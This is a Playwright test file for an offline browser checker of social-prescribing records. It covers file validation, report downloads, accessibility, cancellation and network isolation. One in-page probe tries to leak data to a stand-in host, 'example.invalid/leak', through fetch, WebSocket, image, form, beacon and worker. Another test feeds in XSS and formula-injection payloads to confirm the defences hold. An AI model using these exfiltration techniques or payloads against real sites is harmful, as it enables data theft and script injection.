import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import Ajv2020 from 'ajv/dist/2020';
import Papa from 'papaparse';
import type { Browser, Page } from 'playwright-core';
import { reportJsonSchema } from 'social-prescribing/conformance';
import { toFhir } from 'social-prescribing/fhir';
import { generateExtract, generateRecords, recordWithFault } from 'social-prescribing/synthetic';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { extractFiles } from '../../src/report/extract-files';
import { ndjson } from '../report/check/written';
import { describeInChromium, OVERFLOW, SCREENS, violations } from '../support/browser';
import { root } from '../support/cli';

const PAGE = pathToFileURL(join(root, 'docs/checker/index.html')).href;
const shots = process.env.SHOTS;

describeInChromium('the browser checker', (browser) => {
  const folder = mkdtempSync(join(tmpdir(), 'social-prescribing-checker-'));
  const file = (name: string, content: string) => {
    const path = join(folder, name);
    writeFileSync(path, content);
    return path;
  };
  const records = [...generateRecords({ count: 12, seed: 9 })];
  const bad = recordWithFault('birth-date-impossible', { seed: 9 }).record;
  let good: string;
  let extract: string[];
  beforeAll(() => {
    good = file('records.ndjson', ndjson([...records, bad]));
    const files = extractFiles(generateExtract({ people: 150, seed: 9 }));
    extract = Object.entries(files).map(([name, text]) => file(name, text));
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  it('checks a chosen file, shows the result, and asks nothing of any network', async () => {
    const { page, requests, close } = await opened(browser());
    await page.setInputFiles('#files', good);
    await page.getByText('12 of 13 records are valid').waitFor();
    expect(await page.evaluate('document.activeElement.id')).toBe('result');
    const report = page.frameLocator('iframe[title="Conformance report"]');
    expect(await report.locator('h1').textContent()).toBe('Conformance report');
    expect(await report.getByText('date-impossible').count()).toBeGreaterThan(0);
    expect(requests.filter((url) => !/^(?:blob:|data:|about:)/.test(url))).toEqual([PAGE]);
    await close();
  }, 60_000);

  it('checks what is dropped', async () => {
    const { page, close } = await opened(browser());
    const transfer = await page.evaluateHandle(
      (text) => {
        const { DataTransfer, File } = globalThis as unknown as Record<
          string,
          new (
            ...given: unknown[]
          ) => unknown
        >;
        const made = new DataTransfer!() as { items: { add: (file: unknown) => void } };
        made.items.add(new File!([text], 'dropped.json'));
        return made;
      },
      JSON.stringify(
        toFhir(records[0]!, {
          id: '0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9',
          timestamp: '2024-05-01T10:00:00Z',
        }),
      ),
    );
    await page.dispatchEvent('.drop', 'drop', { dataTransfer: transfer });
    await page.getByText('1 of 1 records are valid').waitFor();
    await close();
  }, 60_000);

  it('downloads what it shows', async () => {
    const { page, close } = await opened(browser());
    await page.setInputFiles('#files', good);
    await page.getByText('12 of 13 records').waitFor();
    const download = async (name: string) => {
      const [given] = await Promise.all([page.waitForEvent('download'), page.click(`a[download="${name}"]`)]);
      return readFileSync(await given.path(), 'utf8');
    };
    const json = JSON.parse(await download('conformance-report.json'));
    expect(new Ajv2020({ strict: false }).validate(reportJsonSchema(), json)).toBe(true);
    expect(json.summary.records).toEqual({ checked: 13, valid: 12 });
    const { data } = Papa.parse<{ rule: string }>((await download('issues.csv')).trimEnd(), { header: true });
    expect(data.map(({ rule }) => rule)).toContain('date-impossible');
    const html = await download('conformance-report.html');
    expect(html).toContain(json.digest);
    expect(html).not.toContain('<script');
    expect(await download('metrics-report.html')).toContain('Referrals over time');
    await close();
  }, 60_000);

  it('tells tables by their headings, and shows metrics', async () => {
    const { page, close } = await opened(browser());
    await page.setInputFiles('#files', extract);
    await page.getByText('rows are valid').waitFor({ timeout: 60_000 });
    for (const kind of ['people', 'practices', 'workforce', 'codes', 'organisations'])
      expect(
        await page.getByText(new RegExp(`${kind}\\.csv: \\d+ rows of ${kind}, 0 rejected`)).count(),
      ).toBe(1);
    const metrics = page.frameLocator('iframe[title="Metrics report"]');
    expect(await metrics.getByText('Where referrals come from').count()).toBeGreaterThan(0);
    expect(await metrics.locator('svg').count()).toBeGreaterThan(4);
    await close();
  }, 90_000);

  it('shows a synthetic sample by keyboard alone', async () => {
    const { page, close } = await opened(browser());
    await page.keyboard.press('Tab');
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the checker');
    for (let press = 0; press < 12; press++) {
      await page.keyboard.press('Tab');
      if ((await page.evaluate('document.activeElement.textContent')) === 'Try it with a synthetic sample')
        break;
    }
    await page.keyboard.press('Enter');
    await page.getByText('records are valid').waitFor({ timeout: 60_000 });
    expect(await page.evaluate('document.activeElement.id')).toBe('result');
    await page.keyboard.press('Tab');
    expect(await page.evaluate('document.activeElement.download')).toBe('conformance-report.html');
    await close();
  }, 90_000);

  it.each(SCREENS)(
    'has nothing that axe-core objects to, %s',
    async (name, options) => {
      const { page, close } = await opened(browser(), options);
      const shot = async (state: string) =>
        shots &&
        (await page.screenshot({ path: join(shots, `checker-${name}-${state}.png`), fullPage: true }));
      const looked = async (state: string) => {
        expect([state, await violations(page)]).toEqual([state, []]);
        expect([state, await page.evaluate(OVERFLOW)]).toEqual([state, 0]);
        await shot(state);
      };
      await looked('empty');
      await page.setInputFiles('#files', file('empty.json', ''));
      await page.getByRole('alert').waitFor();
      await looked('failed');
      await page.setInputFiles('#files', good);
      await page.getByText('records are valid').waitFor();
      await looked('done');
      await close();
    },
    120_000,
  );

  it.each([
    ['an empty file', 'empty.csv', '', 'empty.csv cannot be read. The file is empty'],
    ['a spreadsheet', 'book.xlsx', 'PK\u0003\u0004rest', 'This is a spreadsheet or zip file'],
    [
      'a table alone',
      'people.csv',
      'person_id,birth_date\nA,1980-01-01\n',
      'There is no file of records or coded events among these',
    ],
    ['headings it does not know', 'x.csv', 'colour,size\nred,1\n', 'No heading was recognised'],
  ])('says what is wrong with %s', async (_, name, content, message) => {
    const { page, close } = await opened(browser());
    await page.setInputFiles('#files', file(name, content));
    const alert = page.getByRole('alert');
    await alert.waitFor();
    expect(await alert.textContent()).toContain(message);
    await close();
  });

  it('stays responsive over a big file, shows progress, and stops when told to', async () => {
    const { page, close } = await opened(browser());
    const one = ndjson(records);
    const big = file('big.ndjson', one.repeat(Math.ceil(60_000_000 / one.length)));
    await page.uncheck('#metrics');
    await page.setInputFiles('#files', big);
    await page.getByText(/MB a second, about \d+ s left; \d+ checked so far/).waitFor({ timeout: 60_000 });
    const before = Date.now();
    await page.evaluate('1 + 1');
    expect(await page.getByRole('progressbar').count()).toBe(1);
    expect(Date.now() - before).toBeLessThan(5_000);
    expect(await violations(page)).toEqual([]);
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByText('Cancelled. Nothing was kept.').waitFor();
    await expect.poll(() => page.workers().length, { timeout: 10_000 }).toBe(0);
    await page.setInputFiles('#files', good);
    await page.getByText('12 of 13 records are valid').waitFor({ timeout: 60_000 });
    await close();
  }, 120_000);

  it('is refused every connection by its policy, from the page and from a worker', async () => {
    const { page, requests, close } = await opened(browser());
    const tried = await page.evaluate<Record<string, unknown>>(PROBE);
    expect(tried).toMatchObject({
      fetch: 'refused',
      socket: 'refused',
      worker: 'refused refused',
      ran: false,
    });
    expect(tried.refusals).toEqual(
      expect.arrayContaining(['connect-src', 'form-action', 'img-src', 'script-src-elem']),
    );
    expect(requests.filter((url) => url.startsWith('http') && !url.includes('example.invalid'))).toEqual([]);
    await close();
  }, 60_000);

  it('makes nothing of hostile records and names', async () => {
    const { page, close, dialogs } = await opened(browser());
    const nasty = '<img src=x onerror=alert(1)><script>alert(2)</script>\u202E=1+1';
    const hostile = file(
      'hostile.ndjson',
      ndjson([{ [nasty]: nasty, consent: { consentForInformationSharing: nasty } }, nasty]),
    );
    await page.setInputFiles('#files', {
      name: `${nasty.replaceAll('/', '')}.ndjson`,
      mimeType: 'text/plain',
      buffer: readFileSync(hostile),
    });
    await page.getByText('records are valid').waitFor();
    const frame = page.frameLocator('iframe[title="Conformance report"]');
    await frame.locator('h1').waitFor();
    expect(await frame.locator('script, img').count()).toBe(0);
    expect(await page.locator('main script, main img').count()).toBe(0);
    expect(await frame.getByText('onerror=alert(1)').count()).toBeGreaterThan(0);
    expect(dialogs).toEqual([]);
    expect(await page.content()).not.toContain('Zebedee');
    await close();
  }, 60_000);
});

/** Run in the page, with everything that could carry data away, and code made from text in a worker. */
const PROBE = `(async () => {
  const url = 'https://example.invalid/leak';
  const outcome = (work) => Promise.resolve().then(work).then(() => 'done', () => 'refused');
  const refusals = new Set();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refusals.add(effectiveDirective));
  const inWorker = \`
    const make = () => { try { return new Function('return "made"')(); } catch { return 'refused'; } };
    fetch('\${url}').then(() => 'done', () => 'refused').then((fetched) => postMessage(fetched + ' ' + make()));
  \`;
  const worker = new Worker(URL.createObjectURL(new Blob([inWorker], { type: 'text/javascript' })));
  const fromWorker = new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); });
  const image = document.createElement('img');
  image.src = url;
  const script = document.createElement('script');
  script.textContent = 'globalThis.ran = true';
  const form = document.createElement('form');
  form.action = url;
  document.body.append(image, script, form);
  form.submit();
  const tried = {
    fetch: await outcome(() => fetch(url)),
    socket: await outcome(() => new Promise((_, reject) => { new WebSocket('wss://example.invalid').onerror = reject; })),
    worker: await fromWorker,
    ran: 'ran' in globalThis,
  };
  navigator.sendBeacon(url);
  await new Promise((resolve) => setTimeout(resolve, 200));
  return { ...tried, refusals: [...refusals].sort() };
})()`;

async function opened(browser: Browser, options: Parameters<Browser['newPage']>[0] = {}) {
  const page: Page = await browser.newPage(options);
  const [requests, dialogs, problems]: string[][] = [[], [], []];
  page.on('request', (request) => requests!.push(request.url()));
  page.on('dialog', (dialog) => {
    dialogs!.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => problems!.push(error.message));
  await page.goto(PAGE);
  await page.getByRole('heading', { level: 1 }).waitFor();
  return {
    ...{ page, requests: requests!, dialogs: dialogs! },
    close: async () => {
      expect(problems).toEqual([]);
      await page.close();
    },
  };
}
